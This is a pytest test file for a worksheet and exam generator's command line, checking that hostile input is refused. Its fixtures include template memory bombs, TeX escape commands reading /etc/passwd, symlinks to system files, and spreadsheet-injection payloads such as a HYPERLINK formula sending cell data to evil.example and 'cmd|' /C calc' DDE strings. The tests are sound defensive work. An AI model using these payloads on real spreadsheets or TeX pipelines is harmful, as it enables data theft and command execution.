"""Hostile and broken input (issue 20): every case runs the real command line in a subprocess,
under a memory limit (RLIMIT_AS) and a time limit, and asserts the exit code, the one-line
message with its file:line, that no traceback is printed, nothing from outside the bank is
echoed, and that the earlier output in the --out folder is left as it was.

The bank of each case is built inline (tests/authoring_helpers.py's small question, with one
line changed); paths in messages are relative to the folder the command runs in.
"""

from __future__ import annotations

import csv
import json
import os
import resource
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path

import pytest
from authoring_helpers import QUESTION, make_bank, question, write
from conftest import needs_tex

ROOT = Path(__file__).resolve().parent.parent
MEMORY = 2 << 30  # bytes of address space for the command and what it starts (pdflatex)
STEM = "  Let $u = W x$ with"  # line 19 of QUESTION: `bank/questions/q.yaml:19`
DEFINE = "  u: W @ x"  # line 11
EARLIER = "output of an earlier build\n"


@dataclass(frozen=True)
class Run:
    code: int
    out: str
    err: str
    seconds: float

    @property
    def text(self) -> str:
        return self.out + self.err


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))


def cli(folder: Path, *args: str, timeout: float = 90, env: dict[str, str] | None = None) -> Run:
    """`python -m generator ARGS` in `folder`, with this worktree's code, bounded in memory and time."""
    environment = {**os.environ, "PYTHONPATH": str(ROOT), **(env or {})}
    start = time.monotonic()
    done = subprocess.run([sys.executable, "-m", "generator", *args], cwd=folder, env=environment, capture_output=True,
                          text=True, timeout=timeout, preexec_fn=_limit_memory, check=False)
    return Run(done.returncode, done.stdout, done.stderr, time.monotonic() - start)


def earlier_output(folder: Path) -> Path:
    """An --out folder holding an earlier build's files (a manifest.json: a build may replace it)."""
    write(folder / "out" / "earlier.txt", EARLIER)
    write(folder / "out" / "manifest.json", EARLIER)
    return folder / "out"


def assert_untouched(out: Path) -> None:
    assert sorted(p.name for p in out.iterdir()) == ["earlier.txt", "manifest.json"]
    assert all((out / name).read_text() == EARLIER for name in ("earlier.txt", "manifest.json"))


def assert_refused(run: Run, where: str, words: str, *, seconds: float = 60, out: Path | None = None) -> str:
    """Exit 1, a line starting `where` that holds `words`, no traceback, within `seconds`; the
    earlier output (if any) untouched. Returns that line."""
    assert run.code == 1, run.text
    assert "Traceback" not in run.text, run.text
    assert run.seconds < seconds, run.seconds
    lines = [line.removeprefix("error: ") for line in run.text.splitlines()]
    found = [line for line in lines if line.startswith(where) and words in line]
    assert found, run.text
    if out is not None:
        assert_untouched(out)
    return found[0]


def bank_with(tmp_path: Path, old: str, new: str) -> Path:
    return make_bank(tmp_path / "bank", {"q": question(**{old: new})})


def check_question(tmp_path: Path, old: str, new: str, seeds: int = 1) -> Run:
    bank_with(tmp_path, old, new)
    return cli(tmp_path, "check", "--no-tex", "--seeds", str(seeds), "bank/questions/q.yaml")


def build_question(tmp_path: Path, old: str, new: str, *extra: str, env: dict[str, str] | None = None) -> tuple[Run, Path]:
    bank_with(tmp_path, old, new)
    out = earlier_output(tmp_path)
    return cli(tmp_path, "build", "--bank", "bank", "--out", "out", *extra, env=env), out


# --- templates: memory and time ---------------------------------------------------------------

TEMPLATE_BOMBS = [
    ("<< ((99 ** 99) ** 99) ** 99 >>", "the power would have about 6432525 bits (at most 100000)"),
    ("<< '%1000000000d' % 1 >>", "'%' formatting: width or precision 1000000000 is too large (at most 1000)"),
    ("<< '%*d' % (1000000000, 1) >>", "a width or precision taken from the values ('*') is not allowed"),
    ("<< '{:1000000000}'.format(1) >>", "format: width or precision 1000000000 is too large (at most 1000)"),
    ("<< '{:>{w}}'.format(1, w=10 ** 9) >>", "format: width or precision 1000000000 is too large"),
    ("<< '%d'|format(1) ~ 'x'|center(1000000000) >>", "center would make a text or list of 1000000000 characters"),
    ("<% set ns = namespace(x='ab') %><% for i in range(40) %><% set ns.x = ns.x ~ ns.x %><% endfor %><< ns.x >>",
     "'~' would make a text or list of 1048576 characters or items (at most 1000000)"),
    ("<% set ns = namespace(x='ab') %><% for i in range(40) %><% set ns.x = ns.x + ns.x %><% endfor %><< ns.x >>",
     "'+' would make a text or list of 1048576 characters or items"),
    ("<% set ns = namespace(x=3) %><% for i in range(40) %><% set ns.x = ns.x * ns.x %><% endfor %><< ns.x >>",
     "the product would have about"),
    ("<% for i in range(100000) %><% for j in range(100000) %><% endfor %><% endfor %>",
     "more than 1000000 loop iterations and calls in one template"),
    ("<% macro f(n) %><% if n %><< f(n - 1) >><< f(n - 1) >><% endif %><% endmacro %><< f(100) >>",
     "more than 1000000 loop iterations and calls in one template"),
    ("<< (['x' * 100000] * 100) | join >>", "join would make a text or list of"),
    ("<< ('x' * 100000).replace('x', 'yy' * 1000) >>", "str.replace would make a text or list of 200000000 characters"),
    ("<% for i in range(100000) %><< 'x' * 99 >><% endfor %>", "the output would be longer than 1000000 characters"),
]


@pytest.mark.parametrize("payload, refusal", TEMPLATE_BOMBS, ids=[p for p, _ in TEMPLATE_BOMBS])
def test_template_bombs_are_refused_with_file_key_and_line(tmp_path: Path, payload: str, refusal: str) -> None:
    run = check_question(tmp_path, STEM, f"{STEM} {payload}")
    line = assert_refused(run, "bank/questions/q.yaml:19: stem: not allowed in a template: ", refusal, seconds=30)
    assert line.endswith("[seed 0]")


def test_a_template_bomb_in_a_build_leaves_the_earlier_output(tmp_path: Path) -> None:
    run, out = build_question(tmp_path, STEM, f"{STEM} << '%1000000000d' % 1 >>", "--no-pdf")
    assert_refused(run, "bank/questions/q.yaml:19: stem: not allowed in a template: ", "width or precision 1000000000", out=out)


def test_a_template_bomb_on_a_later_line_names_that_line(tmp_path: Path) -> None:
    run = check_question(tmp_path, "    prompt: |\n      $\\dfrac{\\partial u}{\\partial x}$",
                         "    prompt: |\n      first line\n      <% set big = ((99 ** 99) ** 99) ** 99 %>")
    assert_refused(run, "bank/questions/q.yaml:18: parts[0].prompt: not allowed in a template: ", "bits")


# --- TeX: time and pages ------------------------------------------------------------------------


@needs_tex
def test_tex_that_never_ends_is_stopped_and_names_the_question(tmp_path: Path) -> None:
    run, out = build_question(tmp_path, STEM, f"{STEM} \\def\\x{{\\x}}\\x", env={"GENERATOR_TEX_SECONDS": "3"})
    line = assert_refused(run, "bank/questions/q.yaml:19: stem: TeX did not finish within 3 s", "(question 'q', stem; sheet/A/",
                          seconds=40, out=out)
    assert line.endswith(".tex)")


@needs_tex
def test_tex_that_never_ends_is_stopped_in_check_too(tmp_path: Path) -> None:
    bank_with(tmp_path, STEM, f"{STEM} \\def\\x{{\\x}}\\x")
    run = cli(tmp_path, "check", "--seeds", "1", "bank/questions/q.yaml", env={"GENERATOR_TEX_SECONDS": "3"})
    assert_refused(run, "bank/questions/q.yaml:19: stem: TeX did not finish within 3 s", "(question 'q', stem; q.tex)", seconds=40)


@needs_tex
def test_endless_pages_are_stopped_at_the_page_limit(tmp_path: Path) -> None:
    run, out = build_question(tmp_path, STEM, f"{STEM} \\loop\\null\\newpage\\iftrue\\repeat")
    assert_refused(run, "bank/questions/q.yaml:19: stem: TeX made more than ", "pages (question 'q', stem; sheet/A/", out=out)


# --- expressions --------------------------------------------------------------------------------

EXPRESSIONS = [
    ("  u: exp(exp(exp(exp(W @ x))))", "bank/questions/q.yaml:13:5: question 'q' part 'du_dx': an exponential of about",
     "is too large for a key (arguments of exp within ±200) (variant A, seed 1; values: d = 3, x = [2, -1, -3]"),
    ("  u: sqrt(W @ x - 10)", "bank/questions/q.yaml:13:5: question 'q' part 'du_dx' variant A: the answer is not a real number",
     "values: d = 2, x = [3, -3], W = [[-1, 2], [1, 2]]"),
    ("  u: (W @ x - 10) ** 0.5", "bank/questions/q.yaml:13:5: question 'q' part 'du_dx' variant A: the answer is not a real number",
     "add a constraint"),
    ("  u: log(W @ x - 10)", "bank/questions/q.yaml:13:5: question 'q', part 'du_dx', variant A (seed 0): the derivative",
     "is nan at index [0, 0], not a number"),
    ("  u: tanh(10000 * (W @ x))", "bank/questions/q.yaml:13:5: question 'q' part 'du_dx': an exponential of about -1.80E+5",
     "is too large for a key"),
    ("  u: " + "sigmoid(" * 45 + "W @ x" + ")" * 45, "bank/questions/q.yaml:11:6: define.u: nests 47 operations and calls deep",
     "(at most 40)"),
    ("  u: 2 ** 10 ** 10 ** 10 * (W @ x)", "bank/questions/q.yaml:11:6: cannot evaluate",
     "exponent 10000000000 is too large (at most 100 in absolute value)"),
]


@pytest.mark.parametrize("line, where, words", EXPRESSIONS, ids=[e for e, _, _ in EXPRESSIONS])
def test_expressions_out_of_bounds_are_errors_with_the_variant(tmp_path: Path, line: str, where: str, words: str) -> None:
    run = check_question(tmp_path, DEFINE, line, seeds=2)
    assert_refused(run, where, words, seconds=30)


DERIVED = [
    ("  z: 1 / (x[0] - x[0])", "bank/questions/q.yaml:9:6: cannot evaluate '1 / (x[0] - x[0])': division by zero",
     "(question 'q', variant A, seed 42; values: d = 3, x = [3, 2, -1]"),
    ("  z: log(-1 - x[0] * x[0])", "bank/questions/q.yaml:9:6: derived.z: the value is not a real number", "seed 42"),
    ("  z: 1 / (1 - 1)", "bank/questions/q.yaml:9:6: cannot evaluate '1 / (1 - 1)': division by zero", "seed 42"),
]


@pytest.mark.parametrize("line, where, words", DERIVED, ids=[d for d, _, _ in DERIVED])
def test_a_derived_value_out_of_its_domain_is_no_printed_infinity(tmp_path: Path, line: str, where: str, words: str) -> None:
    bank_with(tmp_path, "constraints:", f"derived:\n{line}\nconstraints:")
    text = (tmp_path / "bank" / "questions" / "q.yaml").read_text().replace(STEM, f"{STEM} $z = << z | latex >>$")
    write(tmp_path / "bank" / "questions" / "q.yaml", text)
    out = earlier_output(tmp_path)
    run = cli(tmp_path, "build", "--no-pdf", "--bank", "bank", "--out", "out")
    assert_refused(run, where, words, out=out)
    assert "infty" not in run.text and "i\\pi" not in run.text


def test_a_derivative_too_large_is_refused_before_it_is_taken(tmp_path: Path) -> None:
    text = question(**{"  W: {shape: [2, d], entries: [-2, 2]}": "  W: {shape: [20, 20], entries: [-2, 2]}\n"
                                                                   "  V: {shape: [20, 20], entries: [-2, 2]}",
                       DEFINE: "  u: W @ V", "    wrt: x": "    wrt: V"})
    make_bank(tmp_path / "bank", {"q": text})
    run = cli(tmp_path, "check", "--no-tex", "--seeds", "1", "bank/questions/q.yaml")
    assert_refused(run, "bank/questions/q.yaml:14:5: question 'q' part 'du_dx': the answer would have 160000 entries",
                   "a key shows at most 2000", seconds=30)


# --- files in the bank ----------------------------------------------------------------------------


def _bank_with_file(tmp_path: Path, make: str) -> Path:
    bank = make_bank(tmp_path / "bank", {"q": QUESTION})
    target = bank / "questions" / "other.yaml"
    if make == "passwd":
        target.symlink_to("/etc/passwd")
    elif make == "link":
        secret = write(tmp_path / "secret.yaml", "id: TOPSECRET-CONTENT\n")
        target.symlink_to(secret)
    elif make == "zero":
        target.symlink_to("/dev/zero")
    elif make == "fifo":
        os.mkfifo(target)
    elif make == "large":
        target.write_text("# " + "x" * (2 << 20) + "\n")
    return bank


FILES = [
    ("passwd", "a symbolic link; only regular files are read"),
    ("link", "a symbolic link; only regular files are read"),
    ("zero", "a symbolic link; only regular files are read"),
    ("fifo", "a named pipe, not a regular file; not read"),
    ("large", "file of 2097155 bytes, larger than 1048576; not read"),
]


@pytest.mark.parametrize("make, refusal", FILES, ids=[f for f, _ in FILES])
@pytest.mark.parametrize("command", ["build", "check", "list"])
def test_links_pipes_devices_and_large_files_are_refused_unread(tmp_path: Path, make: str, refusal: str, command: str) -> None:
    _bank_with_file(tmp_path, make)
    out = earlier_output(tmp_path)
    args = {"build": ["build", "--no-pdf", "--bank", "bank", "--out", "out"], "check": ["check", "--no-tex", "--seeds", "1",
            "--bank", "bank"], "list": ["list", "--bank", "bank"]}[command]
    run = cli(tmp_path, *args, timeout=60)
    assert_refused(run, "bank/questions/other.yaml: ", refusal, seconds=30, out=out)
    assert "root:" not in run.text and "TOPSECRET" not in run.text


def test_yaml_files_the_bank_does_not_read_get_a_note(tmp_path: Path) -> None:
    bank = make_bank(tmp_path / "bank", {"q": QUESTION})
    write(bank / "extra.yaml", QUESTION)
    write(bank / "questions" / "old" / "q2.yaml", QUESTION)
    run = cli(tmp_path, "build", "--no-pdf", "--bank", "bank", "--out", "out")
    assert run.code == 0, run.text
    assert "note: bank/extra.yaml: not read (the bank reads only questions/*.yaml, worksheets/*.yaml, exams/*.yaml)" in run.err
    assert "note: bank/questions/old/q2.yaml: not read" in run.err
    assert "extra.yaml" not in (tmp_path / "out" / "manifest.json").read_text()


def test_check_of_the_shipped_bank_folder_passes_with_its_exam(tmp_path: Path) -> None:
    run = cli(ROOT, "check", "--no-tex", "--seeds", "1", "question_bank")
    assert run.code == 0, run.text
    assert run.out.strip().endswith("ok: 24 question(s), 4 worksheet(s), 1 exam(s), 1 seed(s) each")


def test_check_recognises_an_exam_outside_a_bank_by_its_keys(tmp_path: Path) -> None:
    write(tmp_path / "files" / "q.yaml", QUESTION)
    write(tmp_path / "files" / "final.yaml", "id: final\ntitle: Final\ndate: today\nquestions:\n  - {id: q, points: 4}\n  - {id: nope}\n")
    run = cli(tmp_path, "check", "--no-tex", "--seeds", "1", "files")
    assert_refused(run, "files/final.yaml:6:5: questions[1]: ", "no question with id 'nope' in the bank", seconds=30)
    assert "unknown key 'date'" not in run.text


# --- CSV injection ---------------------------------------------------------------------------------

ROSTER = [
    ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "s1"),
    ("+cmd|' /C calc'!A0", "s2"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "s3"),
    ("-2+3+cmd|' /C calc'!A0", "=1+1"),
    ("Ada Lovelace", "@s5"),
]


def test_roster_cells_are_not_spreadsheet_formulas_and_the_manifest_keeps_them(tmp_path: Path) -> None:
    make_bank(tmp_path / "bank", {"q": QUESTION})
    with open(tmp_path / "roster.csv", "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["name", "id"], *ROSTER])
    run = cli(tmp_path, "build", "--no-pdf", "--bank", "bank", "--out", "out", "--roster", "roster.csv")
    assert run.code == 0, run.text
    with open(tmp_path / "out" / "answers.csv", encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert {(row["student_name"], row["student_id"]) for row in rows} == {
        ("'" + name if name[0] in "=+-@" else name, "'" + sid if sid[0] in "=+-@" else sid) for name, sid in ROSTER}
    for row in rows:
        for column in ("latex", "exact", "decimal"):  # the numbers as printed: a negative one keeps its "-"
            assert not row[column].startswith(("=", "+", "@", "'")), row
    manifest = json.loads((tmp_path / "out" / "manifest.json").read_text(encoding="utf-8"))
    assert [(s["name"], s["id"]) for s in manifest["students"]] == ROSTER


# --- where a TeX error is, and text that ends the document ---------------------------------------


@needs_tex
def test_a_tex_error_in_worksheet_instructions_names_the_yaml_line(tmp_path: Path) -> None:
    make_bank(tmp_path / "bank", {"q": QUESTION}, sheet=False)
    write(tmp_path / "bank" / "worksheets" / "sheet.yaml",
          "id: sheet\ntitle: Sheet\ninstructions: |\n  Answer every question.\n  Use \\undefinedcommandxyz here.\nquestions: [q]\n")
    out = earlier_output(tmp_path)
    run = cli(tmp_path, "build", "--bank", "bank", "--out", "out", "--kinds", "sheet")
    assert_refused(run, "bank/worksheets/sheet.yaml:5: instructions: LaTeX error in instructions (sheet.tex:", "", out=out)
    assert "Undefined control sequence" in run.text


ESCAPES = [
    ("\\end{document}", "\\end{document}"),
    ("\\end {document}", "\\end{document}"),
    ("\\endinput", "\\endinput"),
    ("\\csname @@end\\endcsname", "\\csname"),
    ("\\dump", "\\dump"),
    ("\\batchmode", "\\batchmode"),
    ("\\pdfximage{/etc/passwd}", "\\pdfximage"),
    ("\\input{key.log}", "\\input"),
    ("\\input{\\jobname.log}", "\\input"),
    ("\\immediate\\openout5=batch.pages", "\\openout"),
    ("\\catcode`\\|=0 |enddocument", "\\catcode"),
]


@pytest.mark.parametrize("payload, command", ESCAPES, ids=[p for p, _ in ESCAPES])
def test_text_that_ends_or_escapes_the_document_is_refused_at_load(tmp_path: Path, payload: str, command: str) -> None:
    run = check_question(tmp_path, STEM, f"{STEM} {payload}")
    assert_refused(run, "bank/questions/q.yaml:19: stem: ",
                   f"{command} is not allowed in question, worksheet or exam text (it ends or escapes the document)", seconds=30)
    assert "root:" not in run.text


def test_a_template_that_spells_end_document_is_refused_when_rendered(tmp_path: Path) -> None:
    run, out = build_question(tmp_path, STEM, f"{STEM} << '\\\\end' ~ '{{document}}' >>", "--no-pdf")
    assert_refused(run, "bank/questions/q.yaml:19: stem: as rendered, \\end{document} is not allowed", "", out=out)


def test_exam_instructions_that_end_the_input_are_refused(tmp_path: Path) -> None:
    make_bank(tmp_path / "bank", {"q": QUESTION})
    write(tmp_path / "bank" / "exams" / "final.yaml", "id: final\ntitle: Final\ninstructions: |\n  Good luck.\n  \\endinput\n"
                                                      "questions: [q]\n")
    run = cli(tmp_path, "check", "--no-tex", "--seeds", "1", "--bank", "bank")
    assert_refused(run, "bank/exams/final.yaml:5: instructions: \\endinput is not allowed", "", seconds=30)


# --- the command line --------------------------------------------------------------------------------

PATHS = [
    (["build", "--templates", "missing"], "--templates missing: no such folder"),
    (["check", "--templates", "missing", "bank/questions/q.yaml"], "--templates missing: no such folder"),
    (["preview", "q", "--templates", "bank/questions/q.yaml"], "--templates bank/questions/q.yaml: not a folder"),
    (["build", "--bank", "bank/questions/q.yaml"], "--bank bank/questions/q.yaml: not a folder"),
    (["list", "--bank", "missing"], "--bank missing: no such folder"),
    (["build", "--bank", "bank", "--roster", "bank"], "--roster bank: not a regular file"),
    (["build", "--bank", "bank", "--roster", "missing.csv"], "--roster missing.csv: no such file"),
    (["build", "--bank", "bank", "--out", "bank/questions/q.yaml"], "--out bank/questions/q.yaml: not a folder"),
]


@pytest.mark.parametrize("args, message", PATHS, ids=[" ".join(a) for a, _ in PATHS])
def test_path_options_are_checked_before_work_starts(tmp_path: Path, args: list[str], message: str) -> None:
    make_bank(tmp_path / "bank", {"q": QUESTION})
    out = earlier_output(tmp_path)
    run = cli(tmp_path, *args)
    assert run.code == 1 and run.err == f"error: {message}\n" and run.out == "", run.text
    assert run.seconds < 30
    assert_untouched(out)


ANSWER_CELLS = [
    ("-1/2", "-1/2"), ("-exp(2)/(exp(2) + 1)", "-exp(2)/(exp(2) + 1)"), ("-\\frac{e^{2}}{1 + e^{2}}", "-\\frac{e^{2}}{1 + e^{2}}"),
    ("-0.5", "-0.5"), ("[[1, -2], [0, 1/2]]", "[[1, -2], [0, 1/2]]"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"), ("=1+1", "'=1+1"), ("+1", "'+1"), ("@x", "'@x"),
    ("-SUM(A1:A2)", "'-SUM(A1:A2)"), ("\tx", "'\tx"),
]


@pytest.mark.parametrize("cell, written", ANSWER_CELLS)
def test_answer_cells_keep_a_printed_minus_and_quote_anything_else(cell: str, written: str) -> None:
    from generator.outputs.keytable import _answer_cell, spreadsheet_text

    assert _answer_cell(cell) == written
    assert spreadsheet_text(cell) == ("'" + cell if cell[0] in "=+-@\t\r" else cell)
